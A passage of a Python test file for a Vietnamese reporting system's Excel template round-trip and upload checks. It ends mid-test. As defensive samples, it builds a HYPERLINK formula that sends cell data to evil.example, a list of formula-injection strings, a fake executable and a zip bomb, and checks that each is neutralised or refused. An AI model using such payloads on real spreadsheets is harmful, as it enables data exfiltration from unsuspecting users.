@@ -1,0 +1,733 @@
+"""The XLSX round-trip of a report request (giamsat.reporting.spreadsheet) and the upload checks made before
+any parsing (giamsat.core.uploads). Every bad file is built here, in the test that refuses it."""
+
+import datetime
+import io
+import unicodedata
+import zipfile
+from decimal import Decimal
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl import Workbook, load_workbook
+
+import factories as f
+from giamsat.core.uploads import OLE2_MAGIC, UploadRejected, check_upload
+from giamsat.core.vntext import encode_legacy
+from giamsat.plans.choices import IndicatorKind, PeriodKind, PlanStatus, UnitAggregation
+from giamsat.plans.models import Indicator, Plan, Programme, Target
+from giamsat.reporting.choices import Frequency, ReportStatus
+from giamsat.reporting.models import IndicatorValue, Report, ReportRequest, Schedule
+from giamsat.reporting.services import do_save_draft, get_or_start_draft
+from giamsat.reporting.spreadsheet import (
+    META_SHEET,
+    REPORT_SHEET,
+    SpreadsheetErrors,
+    build_template,
+    export_rows,
+    parse_upload,
+    safe_cell_value,
+)
+from giamsat.units.choices import OrganisationKind, Structure
+from giamsat.units.models import Organisation
+
+D = Decimal
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+# Where the template puts things (checked by test_the_template_puts_each_indicator_on_its_row).
+ROW = {"CT01": 9, "CT02": 10, "CT03": 11, "CT04": 12, "CT05": 13, "CT06": 14}
+
+
+# --------------------------------------------------------------------------------------------- data
+
+
+def make_plan(reference="4525/KH-UBND", title="Kế hoạch thực hiện Chương trình trợ giúp người khuyết tật"):
+    issuer = Organisation.objects.get_or_create(
+        name="Sở Lao động - Thương binh và Xã hội tỉnh Bình Thuận (thử)",
+        unit=f.legacy_province(f.BINH_THUAN),
+        defaults={"abbreviation": "SLĐTBXH", "kind": OrganisationKind.DEPARTMENT},
+    )[0]
+    programme, _created = Programme.objects.get_or_create(name="Trợ giúp người khuyết tật (thử)")
+    plan = Plan.objects.create(
+        reference=reference,
+        issuer=issuer,
+        issued_on=datetime.date(2020, 11, 20),
+        title=title,
+        programme=programme,
+        first_year=2021,
+        last_year=2030,
+        status=PlanStatus.IN_FORCE,
+    )
+    specs = [
+        ("CT01", "Số trẻ em được cấp thẻ bảo hiểm y tế", "trẻ em", IndicatorKind.COUNT, {}),
+        ("CT02", "Giá trị quà tặng cho trẻ em", "VND", IndicatorKind.AMOUNT, {}),
+        (
+            "CT03",
+            "Tỷ lệ xã đạt tiêu chuẩn phù hợp với trẻ em",
+            "%",
+            IndicatorKind.RATIO,
+            {"unit_aggregation": UnitAggregation.RATIO, "numerator_label": "Số xã đạt", "denominator_label": "Số xã"},
+        ),
+        ("CT04", "Ban hành kế hoạch năm", "kế hoạch", IndicatorKind.MILESTONE, {}),
+        ("CT05", "Tỷ lệ trẻ em đi học đúng độ tuổi", "%", IndicatorKind.COUNT, {}),
+        ("CT06", "Số vụ xâm hại trẻ em được phát hiện", "vụ", IndicatorKind.COUNT, {"source": "cases"}),
+    ]
+    for order, (code, name, measure, kind, extra) in enumerate(specs, start=1):
+        Indicator.objects.create(plan=plan, order=order, code=code, name=name, measure=measure, kind=kind, **extra)
+    return plan
+
+
+def make_request(plan, unit, year=2023) -> ReportRequest:
+    schedule, _created = Schedule.objects.get_or_create(
+        plan=plan, title="Báo cáo năm", defaults={"frequency": Frequency.YEARLY, "first_year": 2021, "last_year": 2025}
+    )
+    schedule.units.add(unit)
+    return ReportRequest.objects.create(
+        schedule=schedule,
+        unit=unit,
+        period_kind=PeriodKind.YEAR,
+        period_start=datetime.date(year, 1, 1),
+        period_end=datetime.date(year, 12, 31),
+        due_on=datetime.date(year + 1, 1, 15),
+    )
+
+
+@pytest.fixture
+def plan(db):
+    return make_plan()
+
+
+@pytest.fixture
+def duc_linh(db):
+    return f.legacy_district(f.DUC_LINH)
+
+
+@pytest.fixture
+def report_request(plan, duc_linh):
+    return make_request(plan, duc_linh)
+
+
+def indicator(plan, code) -> Indicator:
+    return plan.indicators.get(code=code)
+
+
+GOOD = {
+    "F9": 1250,
+    "F10": 35000000,
+    "G11": 12,
+    "H11": 15,
+    "I12": "Đạt",
+    "F13": 97.5,
+    "J9": "Bảo hiểm xã hội huyện",
+    "K9": "Số liệu đến 31/12",
+}
+
+
+def fill(content: bytes, cells: dict, sheet: str = REPORT_SHEET) -> bytes:
+    """What an official does in Excel: open the file, type into cells, save."""
+    wb = load_workbook(io.BytesIO(content))
+    ws = wb[sheet]
+    for coordinate, value in cells.items():
+        ws[coordinate] = value
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def errors_of(request, content) -> dict[str, str]:
+    with pytest.raises(SpreadsheetErrors) as caught:
+        parse_upload(request, content)
+    return {e.cell: e.message for e in caught.value.errors}
+
+
+def the_error(request, content) -> str:
+    with pytest.raises(SpreadsheetErrors) as caught:
+        parse_upload(request, content)
+    assert len(caught.value.errors) == 1, caught.value.errors
+    return caught.value.errors[0].message
+
+
+def upload(name: str, content: bytes) -> SimpleUploadedFile:
+    return SimpleUploadedFile(name, content)
+
+
+# --------------------------------------------------------------------------------------------- uploads
+
+
+def docx_bytes() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+    return out.getvalue()
+
+
+def test_it_accepts_a_real_workbook_and_leaves_the_file_at_its_start(report_request):
+    file = upload("bao-cao.xlsx", build_template(report_request))
+    assert check_upload(file, allowed={"xlsx"}, max_bytes=10 * 1024 * 1024) == "xlsx"
+    assert file.tell() == 0
+
+
+def test_it_accepts_a_pdf_and_a_docx(db):
+    assert check_upload(upload("ke-hoach.pdf", b"%PDF-1.7\n..."), allowed={"pdf", "docx"}) == "pdf"
+    assert check_upload(upload("ke-hoach.DOCX", docx_bytes()), allowed={"pdf", "docx"}) == "docx"
+
+
+def test_it_refuses_a_text_file_renamed_xlsx():
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", "Đây là văn bản thường".encode()), allowed={"xlsx"}, max_bytes=1024)
+    assert "không phải là bảng tính Excel (.xlsx)" in caught.value.message
+
+
+def test_it_refuses_a_corrupted_zip(report_request):
+    truncated = build_template(report_request)[:2000]
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", truncated), allowed={"xlsx"}, max_bytes=1024 * 1024)
+    assert caught.value.message.startswith("Tệp bị hỏng")
+
+
+def test_it_refuses_a_password_protected_workbook():
+    encrypted = OLE2_MAGIC + b"\x00" * 504 + bytes(range(256)) * 8
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", encrypted), allowed={"xlsx"}, max_bytes=1024 * 1024)
+    assert caught.value.message.startswith("Tệp đang đặt mật khẩu")
+
+
+def test_it_recognises_encryption_by_the_streams_of_the_compound_file():
+    encrypted = OLE2_MAGIC + b"\x00" * 1000 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 100
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", encrypted), allowed={"xlsx"}, max_bytes=1024 * 1024)
+    assert caught.value.message.startswith("Tệp đang đặt mật khẩu")
+
+
+def test_it_asks_to_save_a_legacy_xls_as_xlsx():
+    legacy = OLE2_MAGIC + b"\x00" * 1000 + "Workbook".encode("utf-16-le") + b"\x00" * 100
+    for name in ("bao-cao.xls", "bao-cao.xlsx"):
+        with pytest.raises(UploadRejected) as caught:
+            check_upload(upload(name, legacy), allowed={"xlsx"}, max_bytes=1024 * 1024)
+        assert "(.xls)" in caught.value.message and ".xlsx" in caught.value.message
+
+
+def test_it_refuses_a_file_over_the_limit_and_says_the_limit_in_mb(report_request):
+    content = build_template(report_request)
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", content + b"\x00" * (1024 * 1024)), allowed={"xlsx"}, max_bytes=1048576)
+    assert caught.value.message == "Tệp quá lớn (1,1 MB). Dung lượng tối đa là 1 MB."
+
+
+def test_the_default_limit_is_the_setting(settings, report_request):
+    settings.GIAMSAT_MAX_UPLOAD_BYTES = 1024
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", build_template(report_request)), allowed={"xlsx"})
+    assert caught.value.message.endswith("Dung lượng tối đa là 1 KB.")  # never "0 MB"
+
+
+def test_it_checks_the_size_before_reading_anything():
+    class Exploding(SimpleUploadedFile):
+        def read(self, *args):
+            raise AssertionError("read before the size check")
+
+    big = Exploding("bao-cao.xlsx", b"x" * 10)
+    big.size = 50 * 1024 * 1024
+    with pytest.raises(UploadRejected):
+        check_upload(big, allowed={"xlsx"}, max_bytes=1024)
+
+
+def test_it_refuses_an_extension_not_allowed_and_content_that_does_not_match_the_name():
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("virus.exe", b"MZ\x90\x00"), allowed={"pdf", "docx"})
+    assert "Chỉ nhận tệp" in caught.value.message
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bao-cao.xlsx", docx_bytes()), allowed={"xlsx", "docx"})
+    assert "văn bản Word (.docx)" in caught.value.message
+
+
+def test_it_refuses_a_zip_that_unpacks_to_far_more_than_the_limit():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (12 * 1024 * 1024))
+    with pytest.raises(UploadRejected) as caught:
+        check_upload(upload("bom.xlsx", out.getvalue()), allowed={"xlsx"}, max_bytes=1024 * 1024)
+    assert "giải nén quá lớn" in caught.value.message
+
+
+# --------------------------------------------------------------------------------------------- the template
+
+
+def test_the_template_has_the_header_block_and_each_indicator_on_its_row(report_request):
+    wb = load_workbook(io.BytesIO(build_template(report_request)))
+    assert wb.sheetnames == [REPORT_SHEET, META_SHEET]
+    ws = wb[REPORT_SHEET]
+    header = " ".join(str(ws.cell(row=r, column=2).value) for r in range(2, 7))
+    assert "4525/KH-UBND ngày 20/11/2020" in header
+    assert "Huyện Đức Linh" in header and "Bình Thuận" in header
+    assert "Năm 2023 (01/01/2023 – 31/12/2023)" in header
+    assert "15/01/2024" in header
+    assert [ws.cell(row=8, column=c).value for c in range(1, 12)] == [
+        "Mã",
+        "Chỉ tiêu",
+        "Đơn vị tính",
+        "Chỉ tiêu kỳ",
+        "Số kỳ trước",
+        "Giá trị",
+        "Tử số",
+        "Mẫu số",
+        "Đạt/Chưa đạt",
+        "Nguồn",
+        "Ghi chú",
+    ]
+    assert {ws.cell(row=row, column=1).value: row for row in range(9, 15)} == ROW
+    assert ws["A8"].font.b and ws["A8"].font.name == "Times New Roman"
+    assert ws["B9"].font.name == "Times New Roman"
+    assert ws.freeze_panes == "D9"
+    assert ws.column_dimensions["B"].width >= 40
+
+
+def test_the_hidden_sheet_says_which_request_plan_unit_and_period_and_where_each_indicator_is(report_request, plan):
+    wb = load_workbook(io.BytesIO(build_template(report_request)))
+    meta = wb[META_SHEET]
+    assert meta.sheet_state == "veryHidden"
+    pairs = {row[0]: row[1] for row in meta.iter_rows(values_only=True) if row[0] is not None}
+    assert pairs["request_id"] == report_request.pk
+    assert pairs["plan_id"] == plan.pk
+    assert (pairs["unit_structure"], pairs["unit_code"]) == (Structure.LEGACY, f.DUC_LINH)
+    assert (pairs["period_start"], pairs["period_end"]) == ("2023-01-01", "2023-12-31")
+    rows = [r for r in meta.iter_rows(values_only=True) if isinstance(r[0], int) and r[2] in IndicatorKind.values]
+    assert {code: row for _pk, code, _kind, row in rows} == ROW
+    assert {code: kind for _pk, code, kind, _row in rows}["CT03"] == "ratio"
+
+
+def test_the_template_locks_labels_unlocks_inputs_and_protects_the_sheet_without_password(report_request):
+    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
+    assert ws.protection.sheet is True
+    assert not ws.protection.password
+    for coordinate in ("A9", "B9", "C9", "D9", "E9", "A8", "F11", "G9", "I9", "F14", "J14"):
+        assert ws[coordinate].protection.locked, coordinate
+    for coordinate in ("F9", "F10", "G11", "H11", "I12", "F13", "J9", "K9", "K12"):
+        assert not ws[coordinate].protection.locked, coordinate
+    grey = ws["F11"].fill.fgColor.rgb  # ratio: no single value
+    assert grey != ws["G11"].fill.fgColor.rgb
+    assert ws["G9"].fill.fgColor.rgb == grey and ws["F14"].fill.fgColor.rgb == grey  # count; computed source
+
+
+def test_the_template_validates_numbers_and_offers_the_milestone_list(report_request):
+    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
+    by_cell = {}
+    for validation in ws.data_validations.dataValidation:
+        for coordinate in str(validation.sqref).split():
+            by_cell[coordinate] = validation
+    assert by_cell["F9"].type == "decimal" and by_cell["F9"].operator == "greaterThanOrEqual"
+    assert by_cell["F9"].formula1 == "0" and by_cell["F9"].showErrorMessage
+    assert (by_cell["F13"].operator, by_cell["F13"].formula1, by_cell["F13"].formula2) == ("between", "0", "100")
+    assert by_cell["H11"].operator == "greaterThan"
+    assert by_cell["I12"].type == "list" and by_cell["I12"].formula1 == '"Đạt,Chưa đạt"'
+    assert "F11" not in by_cell and "F14" not in by_cell
+
+
+def test_the_template_shows_the_target_and_the_last_accepted_value(report_request, plan, duc_linh):
+    ct01, ct02, ct03 = (indicator(plan, c) for c in ("CT01", "CT02", "CT03"))
+    Target.objects.create(
+        indicator=ct01,
+        unit=duc_linh,
+        period_kind=PeriodKind.YEAR,
+        period_start=datetime.date(2023, 1, 1),
+        period_end=datetime.date(2023, 12, 31),
+        value=D("1300"),
+    )
+    # A phase target and a year target: the narrower one is the period's.
+    for start, end, value in ((2021, 2025, "5000"), (2023, 2023, "1300")):
+        Target.objects.create(
+            indicator=ct02,
+            unit=duc_linh,
+            period_kind=PeriodKind.SPAN if start != end else PeriodKind.YEAR,
+            period_start=datetime.date(start, 1, 1),
+            period_end=datetime.date(end, 12, 31),
+            value=D(value) * 1000,
+        )
+    Target.objects.create(  # another unit's target is not this one's
+        indicator=ct01,
+        unit=f.legacy_district(f.TANH_LINH),
+        period_kind=PeriodKind.YEAR,
+        period_start=datetime.date(2023, 1, 1),
+        period_end=datetime.date(2023, 12, 31),
+        value=D("999"),
+    )
+    for year, status, count in ((2021, ReportStatus.ACCEPTED, "1000"), (2022, ReportStatus.ACCEPTED, "1100")):
+        report = Report.objects.create(request=make_request(plan, duc_linh, year), status=status)
+        IndicatorValue.objects.create(report=report, indicator=ct01, value=D(count))
+        IndicatorValue.objects.create(report=report, indicator=ct03, numerator=D(9), denominator=D(15))
+    later = Report.objects.create(request=make_request(plan, duc_linh, 2024), status=ReportStatus.ACCEPTED)
+    IndicatorValue.objects.create(report=later, indicator=ct01, value=D("7777"))
+
+    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
+    assert ws["D9"].value == 1300
+    assert ws["D10"].value == 1300000
+    assert ws["E9"].value == 1100
+    assert "Năm 2022" in ws["E9"].comment.text
+    assert ws["E11"].value == "9/15"
+    assert ws["D11"].value is None and ws["E10"].value is None
+
+
+def test_the_template_is_prefilled_with_the_current_draft(report_request, plan, district_officer):
+    draft = get_or_start_draft(report_request, acting_user=district_officer)
+    IndicatorValue.objects.create(report=draft, indicator=indicator(plan, "CT01"), value=D("1234.5"), source="UBND")
+    IndicatorValue.objects.create(
+        report=draft, indicator=indicator(plan, "CT03"), numerator=D(3), denominator=D(4), comment="ghi chú"
+    )
+    IndicatorValue.objects.create(report=draft, indicator=indicator(plan, "CT04"), value=D(0))
+    ws = load_workbook(io.BytesIO(build_template(report_request)))[REPORT_SHEET]
+    assert (ws["F9"].value, ws["J9"].value) == (1234.5, "UBND")
+    assert (ws["G11"].value, ws["H11"].value, ws["K11"].value) == (3, 4, "ghi chú")
+    assert ws["I12"].value == "Chưa đạt"
+    assert ws["F10"].value is None
+
+
+def test_a_label_that_looks_like_a_formula_is_written_as_text(plan, report_request):
+    Indicator.objects.filter(plan=plan, code="CT02").update(name=HYPERLINK, measure="+VND")
+    content = build_template(report_request)
+    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
+    ws = load_workbook(io.BytesIO(content))[REPORT_SHEET]
+    assert ws["B10"].value == HYPERLINK and ws["B10"].data_type == "s"
+    assert ws["B10"].quotePrefix
+    assert ws["C10"].value == "+VND" and ws["C10"].data_type == "s"
+
+
+# --------------------------------------------------------------------------------------------- safe exports
+
+
+def test_exports_neutralise_formula_injection_and_keep_the_text_exact():
+    risky = [HYPERLINK, "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1", "#N/A"]
+    content = export_rows(["Nội dung", "Số"], [[text, 1] for text in risky] + [["bình thường", D("2.50")]])
+    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml
+    ws = load_workbook(io.BytesIO(content)).active
+    assert [ws.cell(row=r, column=1).value for r in range(2, 8)] == risky
+    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, 9))
+    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(2, 8))
+    assert ws["A1"].font.b and ws["A1"].value == "Nội dung"
+    assert ws.freeze_panes == "A2"
+    assert (ws["A8"].value, ws["B8"].value) == ("bình thường", 2.5)
+
+
+def test_safe_cell_value_converts_what_excel_cannot_hold():
+    aware = datetime.datetime(2024, 1, 2, 3, 4, tzinfo=datetime.UTC)
+    assert safe_cell_value(aware).tzinfo is None
+    assert safe_cell_value(D("12")) == 12 and isinstance(safe_cell_value(D("12.0000")), int)
+    assert safe_cell_value(float("nan")) is None
+    assert safe_cell_value("a\x00b\x07c") == "abc"
+    assert safe_cell_value("x" * 40000) == "x" * 32767
+    assert safe_cell_value(None) is None and safe_cell_value(True) is True
+    assert str(safe_cell_value("=1+1")) == "=1+1"
+
+
+# --------------------------------------------------------------------------------------------- round trip
+
+
+def test_a_filled_template_round_trips_and_replaces_the_draft(report_request, plan, district_officer):
+    content = fill(build_template(report_request), GOOD)
+    parsed = parse_upload(report_request, content)
+    assert parsed.from_template and parsed.conversions == [] and parsed.warnings == []
+    got = {v.indicator.code: (v.value, v.numerator, v.denominator, v.source, v.comment) for v in parsed.values}
+    assert got == {
+        "CT01": (D("1250"), None, None, "Bảo hiểm xã hội huyện", "Số liệu đến 31/12"),
+        "CT02": (D("35000000"), None, None, "", ""),
+        "CT03": (None, D("12"), D("15"), "", ""),
+        "CT04": (D("1"), None, None, "", ""),
+        "CT05": (D("97.5"), None, None, "", ""),
+    }  # CT06 comes from case data, not from the unit
+
+    draft = get_or_start_draft(report_request, acting_user=district_officer)
+    IndicatorValue.objects.create(report=draft, indicator=indicator(plan, "CT02"), value=D(1))
+    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=parsed.values)
+    stored = {v.indicator.code: (v.value, v.numerator, v.denominator) for v in draft.values.select_related("indicator")}
+    assert stored["CT01"] == (D("1250"), None, None)
+    assert stored["CT02"] == (D("35000000"), None, None)
+    assert stored["CT03"] == (None, D("12"), D("15"))
+
+    # Download again: the draft's values are in it; change one value and upload: the draft is replaced.
+    again = fill(build_template(report_request), {"F9": "1.300"})
+    parsed = parse_upload(report_request, again)
+    assert parsed.template_revision == 1
+    draft.refresh_from_db()
+    do_save_draft(draft, acting_user=district_officer, revision=draft.revision, narrative={}, values=parsed.values)
+    assert draft.values.get(indicator__code="CT01").value == D("1300")
+    assert draft.values.count() == 5
+
+
+def test_it_reads_numbers_typed_as_text_in_vietnamese_notation(report_request):
+    cells = GOOD | {"F9": "1.234,5", "F10": "2.000.000 đ", "G11": " 12 ", "H11": "1.500", "F13": "85,5%"}
+    values = {
+        v.indicator.code: v for v in parse_upload(report_request, fill(build_template(report_request), cells)).values
+    }
+    assert values["CT01"].value == D("1234.5")
+    assert values["CT02"].value == D("2000000")
+    assert (values["CT03"].numerator, values["CT03"].denominator) == (D("12"), D("1500"))
+    assert values["CT05"].value == D("85.5")
+
+
+def test_a_cell_formatted_as_percent_gives_the_percentage(report_request):
+    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
+    wb[REPORT_SHEET]["F13"].value = 0.855
+    wb[REPORT_SHEET]["F13"].number_format = "0.0%"
+    out = io.BytesIO()
+    wb.save(out)
+    values = {v.indicator.code: v for v in parse_upload(report_request, out.getvalue()).values}
+    assert values["CT05"].value == D("85.5")
+
+
+def test_nfd_text_is_normalised_without_being_reported_as_converted(report_request):
+    nfd = unicodedata.normalize("NFD", "Phòng Lao động – Thương binh và Xã hội")
+    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"J9": nfd}))
+    assert parsed.values[0].source == "Phòng Lao động – Thương binh và Xã hội"
+    assert parsed.values[0].source == unicodedata.normalize("NFC", parsed.values[0].source)
+    assert parsed.conversions == []
+
+
+def test_a_tcvn3_comment_is_converted_and_reported(report_request):
+    legacy = encode_legacy("Số liệu của Phòng Lao động huyện", "tcvn3")
+    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"K10": legacy}))
+    ct02 = next(v for v in parsed.values if v.indicator.code == "CT02")
+    assert ct02.comment == "Số liệu của Phòng Lao động huyện"
+    [conversion] = parsed.conversions
+    assert (conversion.sheet, conversion.cell, conversion.encoding) == (REPORT_SHEET, "K10", "tcvn3")
+    assert (conversion.before, conversion.after) == (legacy, "Số liệu của Phòng Lao động huyện")
+
+
+def test_a_vni_source_is_converted_too(report_request):
+    legacy = encode_legacy("Báo cáo của Ủy ban nhân dân xã", "vni")
+    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"J10": legacy}))
+    assert [(c.cell, c.encoding, c.after) for c in parsed.conversions] == [
+        ("J10", "vni", "Báo cáo của Ủy ban nhân dân xã")
+    ]
+
+
+def test_milestone_answers_in_other_words_are_understood(report_request):
+    for answer, expected in (("Chưa đạt", 0), ("chua dat", 0), ("Có", 1), (True, 1), (0, 0)):
+        parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"I12": answer}))
+        assert next(v.value for v in parsed.values if v.indicator.code == "CT04") == expected, answer
+
+
+def test_rows_moved_in_an_unprotected_copy_are_found_by_their_code(report_request):
+    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
+    wb[REPORT_SHEET].insert_rows(9, amount=2)
+    out = io.BytesIO()
+    wb.save(out)
+    values = {v.indicator.code: v for v in parse_upload(report_request, out.getvalue()).values}
+    assert values["CT01"].value == D("1250") and values["CT03"].denominator == D("15")
+
+
+# --------------------------------------------------------------------------------------------- refusals
+
+
+def test_every_cell_error_is_reported_at_once_with_its_cell(report_request):
+    cells = {
+        "F9": -5,  # negative
+        "F10": "mười triệu",  # not a number
+        "G11": 20,  # numerator > denominator
+        "H11": 15,
+        "I12": None,  # milestone required
+        "F13": 120,  # a percentage over 100
+        "F14": 3,  # computed indicator: not for the unit to type
+    }
+    errors = errors_of(report_request, fill(build_template(report_request), cells))
+    assert set(errors) == {"F9", "F10", "G11", "I12", "F13", "F14"}
+    assert "không được âm" in errors["F9"]
+    assert "“mười triệu” không phải là số" in errors["F10"]
+    assert "tử số (20) không được lớn hơn mẫu số (15)" in errors["G11"]
+    assert "chưa chọn" in errors["I12"]
+    assert "từ 0 đến 100" in errors["F13"]
+    assert "tự động" in errors["F14"]
+
+
+def test_missing_required_values_are_each_reported(report_request):
+    errors = errors_of(report_request, build_template(report_request))
+    assert set(errors) == {"F9", "F10", "G11", "I12", "F13"}
+    assert errors["F9"] == "Chỉ tiêu CT01: chưa nhập số liệu."
+    assert errors["G11"] == "Chỉ tiêu CT03: chưa nhập tử số và mẫu số."
+
+
+def test_a_ratio_needs_both_parts_and_a_positive_denominator(report_request):
+    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"G11": 3, "H11": None}))
+    assert errors == {"H11": "Chỉ tiêu CT03: thiếu mẫu số."}
+    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"G11": 0, "H11": 0}))
+    assert errors == {"H11": "Chỉ tiêu CT03: mẫu số phải lớn hơn 0."}
+
+
+def test_a_formula_where_a_value_is_expected_is_refused(report_request):
+    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"F9": "=100+150", "J10": "=B9"}))
+    assert errors["F9"] == "Ô F9 chứa công thức; hãy dán giá trị (Paste Special → Values)."
+    assert errors["J10"].startswith("Ô J10 chứa công thức")
+
+
+def test_a_date_that_excel_made_of_a_number_is_refused(report_request):
+    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"F9": datetime.date(2023, 2, 1)}))
+    assert "ngày tháng" in errors["F9"]
+
+
+def test_a_template_of_another_plan_is_refused_with_one_clear_error(report_request, duc_linh):
+    other_plan = make_plan(reference="12/KH-UBND", title="Kế hoạch khác")
+    other = make_request(other_plan, duc_linh)
+    message = the_error(report_request, fill(build_template(other), GOOD))
+    assert message.startswith("Tệp mẫu này của kế hoạch khác (12/KH-UBND)")
+
+
+def test_a_template_of_another_unit_or_period_is_refused(report_request, plan, duc_linh):
+    tanh_linh = make_request(plan, f.legacy_district(f.TANH_LINH))
+    assert the_error(report_request, fill(build_template(tanh_linh), GOOD)).startswith(
+        "Tệp mẫu này của đơn vị khác (Huyện Tánh Linh)"
+    )
+    last_year = make_request(plan, duc_linh, 2022)
+    assert the_error(report_request, fill(build_template(last_year), GOOD)).startswith(
+        "Tệp mẫu này của kỳ khác (01/01/2022 – 31/12/2022)"
+    )
+
+
+def test_an_indicator_added_after_the_download_asks_for_a_new_template(report_request, plan):
+    content = fill(build_template(report_request), GOOD)
+    Indicator.objects.create(plan=plan, order=9, code="CT07", name="Chỉ tiêu mới", measure="người")
+    errors = errors_of(report_request, content)
+    assert list(errors) == [""]
+    assert "CT07" in errors[""] and "tải tệp mẫu mới" in errors[""]
+
+
+@pytest.mark.parametrize(
+    "content, start",
+    [
+        (b"not a spreadsheet at all", "Tệp không phải là bảng tính Excel (.xlsx)"),
+        (OLE2_MAGIC + b"\x01" * 2048, "Tệp đang đặt mật khẩu"),
+        (b"PK\x03\x04" + b"\x00" * 200, "Tệp bị hỏng"),
+    ],
+    ids=["text", "password", "corrupted"],
+)
+def test_parse_refuses_files_that_are_no_workbook(report_request, content, start):
+    assert the_error(report_request, content).startswith(start)
+
+
+def test_a_zip_with_damaged_members_is_refused_as_corrupted(report_request):
+    content = bytearray(build_template(report_request))
+    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
+        info = archive.getinfo("xl/worksheets/sheet1.xml")
+    start = info.header_offset + 30 + len(info.filename) + 10
+    content[start : start + 200] = b"\xff" * 200
+    assert the_error(report_request, bytes(content)).startswith("Tệp bị hỏng")
+
+
+def test_a_damaged_hidden_sheet_is_refused(report_request):
+    wb = load_workbook(io.BytesIO(build_template(report_request)))
+    for row in wb[META_SHEET].iter_rows():
+        if row[0].value == "plan_id":
+            row[1].value = "không rõ"
+    out = io.BytesIO()
+    wb.save(out)
+    assert "thông tin ẩn" in the_error(report_request, out.getvalue())
+
+
+# --------------------------------------------------------------------------------------------- no hidden sheet
+
+
+def copied_workbook(rows: dict[str, list], *, merge_source: bool = False) -> bytes:
+    """Data copied into an old office file: a title, merged two-level headings, an STT column before the codes,
+    other column order; no hidden sheet."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Biểu 01"
+    ws["A1"] = "UBND HUYỆN ĐỨC LINH — BÁO CÁO NĂM 2023"
+    ws.merge_cells("A1:I1")
+    headings = {"A3": "STT", "B3": "Mã chỉ tiêu", "C3": "Tên chỉ tiêu", "D3": "Kết quả", "H3": "Nguồn số liệu"}
+    headings |= {"I3": "Ghi chú", "D4": "Thực hiện", "E4": "Tử số", "F4": "Mẫu số", "G4": "Đạt / chưa đạt"}
+    for coordinate, text in headings.items():
+        ws[coordinate] = text
+    for merged in ("A3:A4", "B3:B4", "C3:C4", "D3:G3", "H3:H4", "I3:I4"):
+        ws.merge_cells(merged)
+    for number, (code, values) in enumerate(rows.items(), start=1):
+        ws.append([number, code, f"Chỉ tiêu {code}", *values])
+    if merge_source:
+        ws.merge_cells("H5:H6")
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+COPIED = {
+    "CT01": [1250, None, None, None, "BHXH huyện", None],
+    "CT02": ["35.000.000", None, None, None, None, "ước tính"],
+    "CT03": [None, 12, 15, None, "Phòng Y tế", None],
+    "CT04": [None, None, None, "Đạt", None, None],
+    "CT05": [97.5, None, None, None, None, None],
+}
+
+
+def test_a_copy_without_the_hidden_sheet_is_read_by_codes_and_merged_headings(report_request):
+    parsed = parse_upload(report_request, copied_workbook(COPIED))
+    assert not parsed.from_template
+    assert parsed.warnings and "cột B" in parsed.warnings[0]
+    got = {v.indicator.code: (v.value, v.numerator, v.denominator, v.source, v.comment) for v in parsed.values}
+    assert got == {
+        "CT01": (D("1250"), None, None, "BHXH huyện", ""),
+        "CT02": (D("35000000"), None, None, "", "ước tính"),
+        "CT03": (None, D("12"), D("15"), "Phòng Y tế", ""),
+        "CT04": (D("1"), None, None, "", ""),
+        "CT05": (D("97.5"), None, None, "", ""),
+    }
+
+
+def test_in_a_copy_a_merged_source_applies_to_each_row_it_covers(report_request):
+    parsed = parse_upload(report_request, copied_workbook(COPIED, merge_source=True))
+    assert {v.indicator.code: v.source for v in parsed.values}["CT02"] == "BHXH huyện"
+
+
+def test_in_a_copy_a_missing_indicator_and_a_repeated_code_are_errors(report_request):
+    rows = {k: v for k, v in COPIED.items() if k != "CT04"}
+    content = copied_workbook(rows)
+    wb = load_workbook(io.BytesIO(content))
+    wb.active.append([9, "CT01", "lặp lại", 5])
+    out = io.BytesIO()
+    wb.save(out)
